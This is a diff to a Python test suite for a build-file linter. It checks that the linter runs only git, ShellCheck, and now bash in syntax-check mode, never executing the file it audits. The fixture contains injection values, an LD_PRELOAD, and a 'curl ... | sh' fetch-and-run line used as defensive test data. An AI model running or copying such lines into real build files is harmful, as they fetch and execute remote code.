@@ -14,6 +14,7 @@ import pytest
 
 from buildlint.compiler.emitters import FORMATS as EMITTERS
 from buildlint.lint.reporters import FORMATS as REPORTERS
+from buildlint.shell import programs
 from tests import needs
 
 AUDITED = Path(__file__).with_name("audited.py")
@@ -26,6 +27,7 @@ from IMAGE:m-bp67acfmxazb4p0abcde
 ENV A="$(touch run-by-env)" B="`touch run-by-env`" LD_PRELOAD="./run.so"
 RUN touch run-by-run; $(touch run-by-run) `touch run-by-run` && curl http://198.51.100.7/x | sh
 RUN . ./run.sh && source run.sh && python3 -c 'open("run-by-run", "w")'
+RUN touch run-by-syntax; $(touch run-by-syntax) echo "$(touch run-by-syntax
 RUN <<EOF
 touch run-by-here-document
 EOF
@@ -146,8 +148,13 @@ def names() -> set[str]:
 
 
 def is_known(process: list[str]) -> bool:
-    """Whether it is git, asked what it ignores, or ShellCheck, shown files of its own."""
+    """Whether it is git, asked what it ignores, bash, or ShellCheck, shown files of its own.
+
+    Bash only reads its standard input, by -n, and no file before that.
+    """
     program, *arguments = process
+    if program == programs.find("bash"):
+        return arguments == ["--norc", "--noprofile", "-n", "-O", "extglob"]
     if program == "git":
         return arguments[:4] == ["-c", "core.fsmonitor=false", "ls-files", "-z"]
     options, files = arguments[:4], arguments[4:]
@@ -221,6 +228,14 @@ def test_only_what_was_asked_for_is_written(arguments: tuple[str, ...], written:
     assert {name for name in changed if not name.endswith(".buildcontent")} <= {written}
     assert seen.others() == set()
     assert [process for process in seen.processes() if not is_known(process)] == []
+
+
+def test_bash_is_asked_about_what_does_not_parse() -> None:
+    bash = needs.program("bash", "apt-get install bash")
+    asked = [process for process in run("check").processes() if process[0] == bash]
+    assert len(asked) == 1
+    Path("buildlint.toml").write_text("bash = false\n", "utf-8")
+    assert bash not in [process[0] for process in run("check").processes()]
 
 
 def test_the_hooks_see_what_they_are_to_see() -> None:
